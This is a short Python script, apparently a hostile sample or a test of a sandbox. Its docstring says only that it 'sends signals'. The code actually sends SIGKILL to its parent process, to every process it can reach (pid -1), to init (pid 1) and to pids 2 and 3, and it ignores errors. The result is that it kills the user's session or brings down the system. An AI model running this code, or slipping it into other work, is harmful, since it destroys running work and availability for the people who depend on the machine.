"""Sends signals to the process that started it and to all others."""
import os
import signal

for pid in (os.getppid(), -1, 1, 2, 3):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        continue
